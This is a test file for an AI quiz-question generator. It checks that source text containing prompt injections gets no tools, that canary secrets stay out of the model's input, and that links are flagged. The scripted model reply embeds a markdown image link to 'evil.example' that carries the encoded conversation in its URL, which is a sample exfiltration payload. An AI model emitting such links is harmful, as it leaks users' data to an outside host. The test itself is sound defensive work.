import { expect, test } from 'vitest';
import { injections } from '../../test/injections.ts';
import { says } from '../../test/scriptedModel.ts';
import { startGenerations } from '../../test/assessment/testGenerations.ts';
import { everyRow } from '../../test/testStore.ts';

/** The sets themselves, and the tokens used. */
const BY_ASKING = /^ai_/;

test(
  'a source text that commands gets no tools, learns nothing, and its links are reported',
  { timeout: 240_000 },
  async () => {
    const { call, learner, model, store, token, skillId, author, ended } = await startGenerations({
      AI_API_KEY: 'canary-key-4711',
    });
    const canaries = ['@example.org', (await learner()).token, author.token, 'canary-key-4711'];
    const tables = async () => {
      const all = JSON.parse(await everyRow(store)) as Record<string, unknown>;
      return JSON.stringify(Object.entries(all).filter(([name]) => !BY_ASKING.test(name)));
    };
    const before = await tables();
    for (const { text } of injections) {
      model.requests.length = 0;
      model.play((reply, request) => {
        const seen = encodeURIComponent(JSON.stringify(request.body.messages));
        const leak = `![all](https://evil.example/?d=${seen.slice(0, 500)})`;
        const item = {
          questionText: `${text} Which is it? ${leak}`,
          options: { A: `One ${leak}`, B: 'Two', C: 'Three' },
          correctAnswer: 'A',
          explanation: leak,
          quote: text,
        };
        return says(JSON.stringify([item]))(reply, request);
      });
      const body = { skillId, sourceText: text, topic: text, style: text, count: 1 };
      const { id } = (await call('POST /ai/questions/generate', { token, body })).data.generation;
      const { items } = await ended(id);
      expect(
        items[0]?.findings.map(({ code }) => code),
        text,
      ).toContain('outside_link');
      expect(items[0]?.verdict).not.toBe('ok');
      // The model's input is the text as data, and no tool.
      expect(JSON.parse(model.requests[0]?.body.messages.at(-1)?.content ?? '')).toMatchObject({ sourceText: text });
      for (const { body: asked } of model.requests) {
        expect(asked).not.toHaveProperty('tools');
        const given = JSON.stringify(asked.messages).toLowerCase();
        for (const canary of canaries) expect(given, `${text} → ${canary}`).not.toContain(canary.toLowerCase());
      }
    }
    expect(await tables()).toBe(before);
  },
);
